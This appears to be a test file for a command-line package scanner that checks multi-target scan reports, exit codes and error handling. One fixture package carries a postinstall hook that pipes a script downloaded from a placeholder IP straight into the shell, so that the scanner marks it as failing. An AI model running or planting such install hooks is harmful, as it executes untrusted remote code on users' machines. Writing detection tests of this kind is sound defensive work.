import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { memoryIo } from '../../src/cli/io.ts';
import { main } from '../../src/cli/main.ts';
import type { Report } from '../../src/report/model.ts';

let dir: string;

function pkg(name: string, scripts: Record<string, string> = {}): string {
  const path = join(dir, name);
  mkdirSync(path);
  writeFileSync(
    join(path, 'package.json'),
    JSON.stringify({ name, version: '1.0.0', license: 'MIT', repository: 'github:example/x', scripts }),
  );
  writeFileSync(join(path, 'index.js'), 'module.exports = (a, b) => a + b;\n');
  return path;
}

before(() => {
  dir = mkdtempSync(join(tmpdir(), 'assay-multi-'));
  mkdirSync(join(dir, '.git'));
});
after(() => rmSync(dir, { recursive: true, force: true }));

async function run(args: string[]) {
  const io = memoryIo(
    { ASSAY_DB: join(dir, 'none.db'), ASSAY_CACHE_DIR: join(dir, 'cache'), ASSAY_OFFLINE: '1' },
    dir,
  );
  const code = await main(args, io);
  return { code, out: io.out.join(''), err: io.err.join('') };
}

test('several targets: one report each, in the order given, and the exit code of the worst', async () => {
  const clean = pkg('clean-one');
  const risky = pkg('risky-one', { postinstall: 'curl -s https://203.0.113.7/x.sh | sh' });
  const text = await run(['scan', clean, risky, '--no-color']);
  assert.equal(text.code, 1, text.err);
  const first = text.out.indexOf('clean-one 1.0.0');
  const second = text.out.indexOf('risky-one 1.0.0');
  assert.ok(first !== -1 && second > first, text.out.slice(0, 400));
  // Two targets are not two files of one release: no "differences between the artifacts".
  assert.doesNotMatch(text.out, /Differences between the artifacts/);
  const json = await run(['scan', clean, risky, '-f', 'json']);
  const body = JSON.parse(json.out) as { reports: Report[]; differences?: unknown };
  assert.deepEqual(
    body.reports.map((report) => [report.target.name, report.verdict.level]),
    [
      ['clean-one', 'pass'],
      ['risky-one', 'fail'],
    ],
  );
  assert.equal(body.differences, undefined);
  assert.equal((await run(['scan', clean, clean])).code, 0);
});

test('a target that cannot be scanned stops the run, names the target, and writes no report', async () => {
  const clean = pkg('clean-two');
  const missing = join(dir, 'no-such-package');
  const output = join(dir, 'out.json');
  const result = await run(['scan', clean, missing, '-f', 'json', '-o', output]);
  assert.equal(result.code, 3);
  assert.match(result.err, new RegExp(`assay: error E_\\w+: ${missing.replace(/[/.]/g, '\\$&')}: `));
  assert.equal(result.out, '');
  assert.throws(() => rmSync(output), /ENOENT/);
});
